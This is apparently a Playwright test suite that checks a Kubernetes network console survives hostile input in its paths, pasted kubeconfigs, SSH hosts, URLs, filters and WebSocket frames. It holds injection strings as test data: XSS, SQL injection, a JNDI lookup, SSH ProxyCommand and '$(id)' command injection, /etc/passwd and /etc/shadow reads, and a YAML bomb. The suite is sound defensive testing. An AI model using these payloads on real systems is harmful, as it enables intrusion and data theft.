import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { type RunningConsole, startConsole } from '../support/console.ts';

const long = 'x'.repeat(5000);
/** What people paste by mistake, and what others would on purpose. */
const texts = [
  ' ',
  '\u0000\u0001',
  '<img src=x onerror=alert(1)>',
  "'; DROP TABLE pods; --",
  '../../../../etc/passwd',
  '$' + '{jndi:ldap://evil}',
  '-oProxyCommand=touch /tmp/owned',
  '\u202Egnp.exe',
  '💥'.repeat(50),
  '999999999999999999999999',
  long,
] as const;

/** Wrong input wherever something can be typed: an answer in words each time, no crash, nothing run. It needs no cluster. */
test.describe('a hostile user', () => {
  let running: RunningConsole;
  let directory = '';
  test.beforeAll(async () => {
    directory = mkdtempSync(join(tmpdir(), 'fairlead-hostile-'));
    mkdirSync(join(directory, 'folder'));
    writeFileSync(join(directory, 'binary'), Buffer.from(Array.from({ length: 4096 }, (_, index) => index % 256)));
    writeFileSync(join(directory, 'empty'), '');
    execFileSync('mkfifo', [join(directory, 'pipe')]);
    running = await startConsole(['--recording'], { KUBECONFIG: '/nonexistent' });
  });
  test.afterAll(async () => {
    await running.close();
    rmSync(directory, { recursive: true, force: true });
  });

  /** Opens the console; whatever throws in the page, or runs that should not, is collected. */
  async function open(page: Page): Promise<readonly string[]> {
    const wrong: string[] = [];
    page.on('pageerror', (error) => wrong.push(error.message));
    page.on('dialog', (dialog) => {
      wrong.push(`a dialog of the browser: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('console', (message) => {
      if (message.type() === 'error') wrong.push(message.text());
    });
    await page.goto(running.address);
    await expect(page.getByText(/recording/i).first()).toBeVisible({ timeout: 30_000 });
    return wrong;
  }
  const sound = async (page: Page, wrong: readonly string[]) => {
    await expect(page.getByText('This view stopped working')).toHaveCount(0);
    await expect(page.getByRole('navigation', { name: 'Views' })).toBeVisible();
    expect(wrong).toEqual([]);
  };
  async function addDialog(page: Page, way: string): Promise<ReturnType<Page['getByRole']>> {
    await page.goto(`${running.origin}/#/clusters?tab=add`);
    const dialog = page.getByRole('dialog', { name: 'Add a cluster' });
    await expect(dialog).toBeVisible();
    await dialog.getByText(way, { exact: true }).click();
    return dialog;
  }

  test('kubeconfigs by path: relative, absent, folders, devices, pipes, binaries', async ({ page }) => {
    const wrong = await open(page);
    const dialog = await addDialog(page, 'Path on this machine');
    const paths = [
      'relative/path',
      '~/.kube/config',
      '/dev/zero',
      '/dev/stdin',
      '/proc/self/mem',
      join(directory, 'pipe'),
      join(directory, 'folder'),
      join(directory, 'binary'),
      join(directory, 'empty'),
      join(directory, 'none'),
      ...texts.filter((text) => text.trim() !== ''),
    ];
    for (const path of paths) {
      await dialog.getByRole('textbox', { name: 'Path' }).fill(path);
      await dialog.getByRole('button', { name: 'Add', exact: true }).click();
      const card = dialog.getByRole('alert');
      // It is about this one, not about the one before.
      await expect(card, path.slice(0, 60)).toContainText(
        path.replaceAll('\u0000', '').replaceAll('\u0001', '').slice(0, 40),
      );
      await expect(card.getByText('Fix', { exact: true })).toBeVisible();
    }
    await sound(page, wrong);
  });

  test('kubeconfigs as text: not YAML, other YAML, bombs, files of this machine', async ({ page }) => {
    const wrong = await open(page);
    const dialog = await addDialog(page, 'Paste or upload');
    const bomb = [
      'a: &a [x,x,x,x,x,x,x,x,x]',
      ...'bcdefghij'.split('').map((name, index) => `${name}: &${name} [${`*${'abcdefghij'[index]},`.repeat(9)}]`),
    ].join('\n');
    const pasted = [
      ...texts.filter((text) => text.trim() !== ''),
      'apiVersion: v1\nclusters:\n\t- tab',
      '[]',
      'null',
      '42',
      'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: x}',
      '{"apiVersion":"v1","kind":"Config","clusters":{},"contexts":7,"users":"no"}',
      'apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "javascript:alert(1)"}}]\nusers: [{name: u, user: {tokenFile: /etc/shadow}}]\ncontexts: [{name: x, context: {cluster: c, user: u}}]\n',
      bomb,
    ];
    for (const [index, text] of pasted.entries()) {
      await dialog.getByLabel('Name in the list').fill(`case-${index}-`);
      await dialog.getByLabel('Text').fill(text);
      await dialog.getByRole('button', { name: 'Add', exact: true }).click();
      await expect(dialog.getByRole('alert'), text.slice(0, 60)).toContainText(`case-${index}-`, { timeout: 30_000 });
    }
    await sound(page, wrong);
  });

  test('SSH hosts that are options, commands or nonsense', async ({ page }) => {
    const wrong = await open(page);
    const dialog = await addDialog(page, 'Behind SSH');
    for (const host of [
      '-oProxyCommand=id',
      'a b',
      'user@',
      '@host',
      'host:99999',
      'host:abc',
      '[::1',
      'no-such-host.invalid',
      '127.0.0.1:1',
      '$(id)',
    ]) {
      await dialog.getByLabel('Host').first().fill(host);
      await page.keyboard.press('Escape');
      await expect(dialog).toBeVisible();
      await dialog.getByRole('button', { name: 'Connect and look' }).click();
      await expect(dialog.getByRole('alert'), host).toContainText(host.replace(/^user@$|^@|^\[/, ''), {
        timeout: 30_000,
      });
    }
    await sound(page, wrong);
  });

  test('addresses that lead nowhere', async ({ page }) => {
    const wrong = await open(page);
    const encoded = texts.map((text) => encodeURIComponent(text.slice(0, 300)));
    const addresses = [
      'nowhere',
      'clusters/none',
      'clusters/%2e%2e%2f%2e%2e',
      'policies/Pod/default/x',
      'policies/CiliumNetworkPolicy/none/none',
      'terminal?pod=none/none',
      'terminal?pod=///',
      'terminal?node=none',
      'terminal?debug=pod/a',
      'terminal?debug=node/',
      'terminal?debug=elsewhere/x/y',
      'explain?port=-1&protocol=carrier-pigeon',
      'topology?scope=galaxy&group=none&select=none:none&view=hologram',
      'flows?since=yesterday&filter=((((',
      'logs?pods=a/b/c,d',
      ...encoded.flatMap((text) => [
        `flows?filter=${text}`,
        `topology?find=${text}`,
        `policies?find=${text}`,
        `explain?from=${text}&to=${text}`,
        `clusters/${text}`,
      ]),
    ];
    for (const address of addresses) {
      await page.goto(`${running.origin}/#/${address}`);
      await expect(page.getByRole('main')).toBeVisible();
      await expect(page.getByText('This view stopped working'), address).toHaveCount(0);
    }
    await sound(page, wrong);
  });

  test('fields of the views: filters, searches, packets, commands of hubble', async ({ page }) => {
    test.setTimeout(300_000);
    const wrong = await open(page);
    await page.goto(`${running.origin}/#/flows`);
    const filter = page.getByLabel('Filter flows');
    for (const text of [
      ...texts,
      'port:99999',
      'ip:300.1.1.1/99',
      'verdict:MAYBE',
      'not not not',
      'from-pod:',
      ':',
      '"',
      'a:b:c:d',
      'port:80 '.repeat(200),
    ]) {
      await filter.fill(text);
      await page.keyboard.press('Enter');
      await expect(page.getByText('This view stopped working'), text.slice(0, 60)).toHaveCount(0);
      await filter.fill('');
    }
    for (const [view, label] of [
      ['topology', 'Find'],
      ['policies', 'Filter policies'],
    ] as const) {
      await page.goto(`${running.origin}/#/${view}`);
      const field = page.getByLabel(label).first();
      await expect(field).toBeVisible({ timeout: 30_000 });
      for (const text of [...texts, '[', '(?', '*', '\\']) {
        await field.fill(text);
        await page.keyboard.press('Enter');
      }
      await sound(page, wrong);
    }
    await page.goto(`${running.origin}/#/explain`);
    for (const text of texts.slice(1)) {
      await page.getByRole('combobox', { name: 'From' }).fill(text);
      await page.getByRole('combobox', { name: 'To', exact: true }).fill(text);
      await page.getByRole('textbox', { name: 'Port' }).fill('70000');
      await page.keyboard.press('Escape');
    }
    await sound(page, wrong);
  });

  test('the engine answers everything it is sent, whatever that is', async ({ page }) => {
    await open(page);
    // Past the page: frames as somebody with the cookie could send them.
    const answers = await page.evaluate(
      async (huge: string) => {
        const frames: readonly (string | Uint8Array)[] = [
          '',
          'null',
          '{}',
          '[1]',
          '{"t":"call"}',
          huge,
          new Uint8Array(64),
          new Uint8Array(1 << 20),
        ];
        return await Promise.all(
          frames.map(
            (frame) =>
              new Promise<string>((resolve) => {
                const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/rpc`);
                socket.onopen = () => socket.send(frame as string);
                socket.onmessage = () => resolve('answered');
                socket.onclose = () => resolve('closed');
              }),
          ),
        );
      },
      'y'.repeat(1 << 20),
    );
    expect(new Set(answers)).toEqual(new Set(['closed']));
    // And it goes on for everybody else.
    await page.goto(`${running.origin}/#/clusters`);
    await page.reload();
    await expect(page.getByText(/recording/i).first()).toBeVisible({ timeout: 30_000 });
  });
});
